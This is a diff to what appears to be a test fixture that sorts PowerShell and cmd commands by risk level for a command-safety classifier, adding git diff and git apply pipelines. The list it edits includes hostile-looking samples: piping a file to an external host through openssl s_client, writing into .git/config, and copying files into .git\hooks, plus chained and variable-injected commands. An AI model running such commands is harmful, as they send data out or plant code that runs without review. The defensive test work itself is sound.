@@ -56,6 +56,8 @@ const powershell: Record<string, string[]> = {
   ],
   high: [
     'gc a.patch | git apply',
+    // Some versions end a line at "\r", so that the text of a file may become the header of a patch.
+    'git diff | git apply',
     'git show :a.patch | git am',
     'gc a.txt | openssl s_client -connect example.org:443',
     'Set-Content a,.git/config x',
@@ -151,6 +153,8 @@ const powershell: Record<string, string[]> = {
 };
 const cmd: Record<string, string[]> = {
   medium: [
+    'git diff | git apply',
+    'git diff HEAD~1 -- src | git apply -R',
     'dir',
     'type a.txt',
     'npm test && git status',
@@ -180,6 +184,11 @@ const cmd: Record<string, string[]> = {
     'echo x>..\\a',
     'copy a .git\\hooks\\x',
     'type a.patch | git apply',
+    'type a.patch | git diff | type b.patch | git apply',
+    'git show HEAD:a.patch | git apply',
+    'git diff %x% | git apply',
+    'git diff & git apply',
+    'git diff | findstr x | git apply',
     'type C:\\a',
     'powershell -c ls',
     'call x.bat',
